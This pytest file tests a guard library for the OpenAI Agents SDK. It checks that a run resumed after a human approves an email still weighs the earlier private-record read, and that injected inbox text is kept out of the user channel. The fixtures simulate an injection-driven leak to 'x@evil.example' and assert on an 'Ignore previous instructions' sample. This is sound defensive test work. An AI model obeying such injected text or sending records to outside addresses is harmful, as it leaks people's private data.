"""OpenAI Agents SDK: an approval interrupt resumed the SDK's documented way is guarded, with its history.

The SDK's flow: a tool with ``needs_approval`` interrupts the run; the application takes
``result.to_state()`` (or stores ``state.to_string()`` and later calls ``RunState.from_string(agent,
...)``), approves or rejects ``state.get_interruptions()`` and resumes with the state.  The earlier
tool results live only in the state, so a resume must feed them to the guard
(docs/integrations/openai-agents.md, "Approvals: resuming a run").
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("agents")

from agents import Agent, RunConfig, Runner, RunState, Tool, function_tool
from agents.handoffs import HandoffInputData

from guard import Guard, InputError, load_policy
from guard.adapters._openai_history import SDK_USER_ITEMS
from guard.adapters.openai_agents import guard_agent, run, run_streamed, run_sync
from guard.adapters.openai_agents_testing import ScriptedModel, function_call
from guard.audit import read_entries
from tests.adapters.mail_agent_data import INJECTED, POLICY, RECORD, TASK
from tests.adapters.openai_support import arun, decision_entries, quiet_tracing_and_close_loops, session_ends

NO_TRACE = RunConfig(tracing_disabled=True)
LEAK = {"to": "x@evil.example", "subject": "Record", "body": RECORD}
BROCHURE = {"to": "bob@partner.test", "subject": "Brochure", "body": "Our public brochure is attached."}

_quiet_tracing_and_close_loops = pytest.fixture(autouse=True)(quiet_tracing_and_close_loops)


def mail_tools(ran: list[tuple[str, dict[str, Any]]]) -> list[Tool]:
    """read_record, read_inbox and a send_email that needs a human's approval (the SDK's ``needs_approval``)."""

    @function_tool
    def read_record(name: str) -> str:
        """Read a customer record."""
        ran.append(("read_record", {"name": name}))
        return RECORD

    @function_tool
    def read_inbox() -> str:
        """Read the inbox."""
        ran.append(("read_inbox", {}))
        return INJECTED

    @function_tool(needs_approval=True)
    def send_email(to: str, subject: str, body: str) -> str:
        """Send an e-mail."""
        ran.append(("send_email", {"to": to, "subject": subject, "body": body}))
        return f"sent to {to}"

    return [read_record, read_inbox, send_email]


def interrupted(
    tmp_path: Path, send: dict[str, str] = LEAK
) -> tuple[Guard, Agent[Any], Any, list[tuple[str, dict[str, Any]]]]:
    """A guarded run that read the record (c1) and stopped at the approval of send_email (c2)."""
    ran: list[tuple[str, dict[str, Any]]] = []
    model = ScriptedModel(
        [
            [function_call("read_record", {"name": "Lena Novak"}, "c1")],
            [function_call("send_email", send, "c2")],
            "done",
        ]
    )
    agent = Agent(name="mail", tools=mail_tools(ran), model=model)
    guard = Guard(load_policy(POLICY), threshold=0.5, audit=tmp_path / "audit.jsonl")
    result = run_sync(guard, agent, TASK, session_id="r1", run_config=NO_TRACE)
    assert [i.tool_name for i in result.interruptions] == ["send_email"]
    assert [name for name, _ in ran] == ["read_record"]
    return guard, agent, result, ran


def entries(tmp_path: Path) -> list[dict[str, Any]]:
    return read_entries(tmp_path / "audit.jsonl")


def approve_all(state: RunState[Any, Any]) -> RunState[Any, Any]:
    for item in state.get_interruptions():
        state.approve(item)
    return state


@pytest.mark.parametrize("use_async", [False, True])
def test_a_state_from_string_resumed_with_the_guarded_runner_is_decided_with_its_history(
    tmp_path: Path, use_async: bool
) -> None:
    """to_string → RunState.from_string(agent, ...) → approve → run(guard, agent, state): the send is escalated.

    Catches guarded entry points that refuse a RunState, hand it to the SDK with the caller's own
    (unguarded) tools, or decide it in a session that never saw the record read before the
    interrupt (each sends the record, or decides it ``execute``).
    """
    guard, agent, result, ran = interrupted(tmp_path)
    stored = result.to_state().to_string()
    state = approve_all(arun(RunState.from_string(agent, stored)))
    if use_async:
        resumed = arun(run(guard, agent, state, session_id="r1-resume", run_config=NO_TRACE))
    else:
        resumed = run_sync(guard, agent, state, session_id="r1-resume", run_config=NO_TRACE)
    assert [name for name, _ in ran] == ["read_record"]
    got = [(e["session"], e["call_id"], e["verdict"]) for e in decision_entries(entries(tmp_path))]
    assert got == [("r1", "c1", "execute"), ("r1-resume", "c2", "escalate")]
    assert resumed.final_output == "done" and resumed.carbguard_session.session_id == "r1-resume"
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1", "r1-resume"]


def test_the_sdk_documented_resume_runner_run_agent_state_is_decided_with_its_history(tmp_path: Path) -> None:
    """The SDK's own call, Runner.run_sync(agent, result.to_state()) after approving: the send is escalated.

    The state carries the guarded copies of the interrupted run, bound to its session (which holds
    the record read), so the resume is decided as that session's next segment, audited before the
    tool could run.  Catches a guarded run whose state carries the caller's own tools (the approved
    send would run with no decision and no audit entry).
    """
    _guard, agent, result, ran = interrupted(tmp_path)
    resumed = Runner.run_sync(agent, approve_all(result.to_state()), run_config=NO_TRACE)
    assert [name for name, _ in ran] == ["read_record"] and resumed.final_output == "done"
    got = [(e["session"], e["call_id"], e["verdict"]) for e in decision_entries(entries(tmp_path))]
    assert got == [("r1", "c1", "execute"), ("r1#segment-2", "c2", "escalate")]
    result.carbguard_session.close()  # the caller ends the resumed segment (or use run/run_sync with the state)
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1", "r1#segment-2"]


def test_a_resume_without_the_state_history_would_run_the_leak(tmp_path: Path) -> None:
    """Control: the same approved send decided in a session that saw only the task is ``execute``.

    This is why the resume must carry the state's history: the private value arrived in a tool
    result that only the RunState holds.
    """
    guard, _agent, _result, _ran = interrupted(tmp_path)
    fresh = guard.session("fresh")
    fresh.observe_user(TASK)
    assert fresh.decide("send_email", LEAK, "c2").verdict.value == "execute"


def test_an_approved_benign_call_runs_once_with_the_decided_arguments(tmp_path: Path) -> None:
    """Approving a benign send: the resume decides it ``execute`` and runs it once.

    Catches a rebinding that loses the human's approval (the resumed run would stop at the same
    interrupt again) or runs the tool outside the guarded invoke.
    """
    guard, agent, result, ran = interrupted(tmp_path, BROCHURE)
    state = approve_all(arun(RunState.from_string(agent, result.to_state().to_string())))
    resumed = run_sync(guard, agent, state, session_id="r1-resume", run_config=NO_TRACE)
    assert not resumed.interruptions and resumed.final_output == "done"
    assert ran == [("read_record", {"name": "Lena Novak"}), ("send_email", BROCHURE)]
    got = [(e["session"], e["call_id"], e["verdict"]) for e in decision_entries(entries(tmp_path))]
    assert got == [("r1", "c1", "execute"), ("r1-resume", "c2", "execute")]


def test_a_rejected_call_runs_nothing_and_the_resume_ends_its_session(tmp_path: Path) -> None:
    """Rejecting the send: nothing runs, nothing is decided for it, the resumed session still ends once.

    Catches a resume path that leaves its session open (no ``session_end`` for ``r1-resume``).
    """
    guard, agent, result, ran = interrupted(tmp_path)
    state = result.to_state()
    for item in state.get_interruptions():
        state.reject(item)
    run_sync(guard, agent, state, session_id="r1-resume", run_config=NO_TRACE)
    assert [name for name, _ in ran] == ["read_record"]
    assert [e["call_id"] for e in decision_entries(entries(tmp_path))] == ["c1"]
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1", "r1-resume"]


def test_the_resumed_session_sees_the_state_history_with_its_trust(tmp_path: Path) -> None:
    """The resumed session: the task as the user's turn, the record as private content, the read as history,
    and the approved call only as its own proposal.

    Catches feeding the state's tool outputs as user turns or as untrusted text (the record's values
    would lose their private provenance), and observing the waiting call's own arguments as untrusted
    history before deciding it (every resumed call would look as if an outsider chose its recipient).
    """
    guard, agent, result, _ran = interrupted(tmp_path, BROCHURE)
    resumed = run_sync(guard, agent, approve_all(result.to_state()), session_id="r1-resume", run_config=NO_TRACE)
    records = list(resumed.carbguard_session.graph.records.values())
    got = [(r.kind.value, r.trust.value, r.tool) for r in records[:4]]
    assert got == [
        ("user", "user", None),
        ("result", "tool_untrusted", "history:call:read_record"),
        ("result", "tool_private", "history:read_record"),
        ("proposal", "agent", "send_email"),
    ]
    assert records[0].text == TASK and records[2].text == RECORD
    decision = resumed.carbguard_session.decisions["c2"]
    assert decision.verdict.value == "execute" and not decision.features["recipient_from_untrusted"]


def to_user_summary(data: HandoffInputData) -> HandoffInputData:
    """A handoff input filter that folds the transcript, tool outputs included, into one ``role: user`` message."""
    texts = [str(item.to_input_item()) for item in (*data.pre_handoff_items, *data.new_items)]
    summary = {"role": "user", "content": "Summary so far:\n" + "\n".join(texts)}
    return data.clone(input_history=(summary,), pre_handoff_items=(), new_items=())


def test_a_state_whose_input_a_handoff_filter_rewrote_has_no_user_turn(tmp_path: Path) -> None:
    """After a handoff whose input filter wrote the inbox text into a ``role: user`` message, the resume
    observes that message as untrusted content: the injection never enters the user channel.

    Catches rebuilding the state's input with its role: user items as user turns (a state loaded in a
    new process, where no earlier run's handoff is remembered).
    """
    ran: list[tuple[str, dict[str, Any]]] = []
    model = ScriptedModel(
        [
            [function_call("read_inbox", {}, "c1")],
            [function_call("transfer_to_b", {}, "h1")],
            [function_call("send_email", BROCHURE, "c2")],
            "done",
        ]
    )
    b = Agent(name="b", tools=mail_tools(ran), model=model)
    a = Agent(name="a", tools=mail_tools(ran), model=model, handoffs=[b])
    guard = Guard(load_policy(POLICY), threshold=0.5, audit=tmp_path / "audit.jsonl")
    config = RunConfig(tracing_disabled=True, handoff_input_filter=to_user_summary)
    result = run_sync(guard, a, TASK, session_id="h1", run_config=config)
    assert result.interruptions and "Ignore previous instructions" in str(result.to_state()._original_input)
    stored = result.to_state().to_string()
    SDK_USER_ITEMS.clear()  # resumed in another process: nothing remembered of the interrupted run
    state = approve_all(arun(RunState.from_string(a, stored)))
    resumed = run_sync(guard, a, state, session_id="h1-resume", run_config=config)
    users = [r for r in resumed.carbguard_session.graph.records.values() if r.kind.value == "user"]
    assert users == []
    injected = [r for r in resumed.carbguard_session.graph.records.values() if "Ignore previous" in r.text]
    assert injected and all(r.trust.value == "tool_untrusted" for r in injected)


def test_a_state_from_to_state_resumed_with_the_guarded_runner_runs_this_runs_copies(tmp_path: Path) -> None:
    """result.to_state() (holding the interrupted run's guarded copies) resumed by run_sync: decided in the new
    session, which the run ends; the interrupted session is not reopened.

    Catches a resume that keeps the state's own agent objects: the decision would be filed under
    ``r1#segment-2``, a segment nobody ends.
    """
    guard, agent, result, _ran = interrupted(tmp_path)
    run_sync(guard, agent, approve_all(result.to_state()), session_id="r2", run_config=NO_TRACE)
    assert [e["session"] for e in decision_entries(entries(tmp_path))] == ["r1", "r2"]
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1", "r2"]


def test_run_streamed_refuses_a_state(tmp_path: Path) -> None:
    """A RunState needs run/run_sync (its history is read first): run_streamed refuses it before opening a session."""
    guard, agent, result, _ran = interrupted(tmp_path)
    with pytest.raises(InputError, match="RunState"):
        run_streamed(guard, agent, result.to_state(), session_id="s")
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1"]


def test_a_segment_reopened_by_the_sdk_runner_ends_when_its_guarded_agents_are_gone(tmp_path: Path) -> None:
    """Runner.run_sync(agent, result.to_state()) reopens the run's session; nobody closes it: its session_end is
    written at the latest when the guarded copies are collected.

    Catches a reopened segment that never ends (the monitor would never see its escalate).
    """
    import gc

    _guard, agent, result, _ran = interrupted(tmp_path)
    resumed = Runner.run_sync(agent, approve_all(result.to_state()), run_config=NO_TRACE)
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1"]
    del result, resumed
    gc.collect()
    assert [e["session"] for e in session_ends(entries(tmp_path))] == ["r1", "r1#segment-2"]


def test_your_own_session_resumes_a_state_loaded_with_the_guarded_agent(tmp_path: Path) -> None:
    """Your own session: RunState.from_string(guard_agent(agent, session), ...) + observe_input(session, state)
    + Runner.run(guarded, state): the approved leak is escalated; the SDK's own runner runs the guarded copies.

    Catches observe_input refusing a RunState or feeding it without its tool outputs (the send would
    be decided ``execute``).
    """
    from guard.adapters.openai_agents import observe_input

    guard, agent, result, ran = interrupted(tmp_path)
    stored = result.to_state().to_string()
    session = guard.session("own")
    guarded = guard_agent(agent, session)
    state = approve_all(arun(RunState.from_string(guarded, stored)))
    assert observe_input(session, state) == 1
    Runner.run_sync(guarded, state, run_config=NO_TRACE)
    session.close()
    assert [name for name, _ in ran] == ["read_record"]
    assert session.decisions["c2"].verdict.value == "escalate"
    assert session.decisions["c2"].reason.value == "risk_budget"


def test_a_session_fed_nothing_refuses_to_decide(tmp_path: Path) -> None:
    """The same without observe_input: the guarded copies refuse (escalate, audited) instead of deciding blind.

    Catches a binding that decides in a session that never saw the run (the approved leak would be
    decided ``execute`` and sent).
    """
    guard, agent, result, ran = interrupted(tmp_path)
    session = guard.session("blind")
    guarded = guard_agent(agent, session)
    state = approve_all(arun(RunState.from_string(guarded, result.to_state().to_string())))
    Runner.run_sync(guarded, state, run_config=NO_TRACE)
    assert [name for name, _ in ran] == ["read_record"]
    (entry,) = [e for e in decision_entries(entries(tmp_path)) if e["session"] == "blind"]
    assert (entry["call_id"], entry["verdict"], entry["reason"]) == ("c2", "escalate", "internal_error")
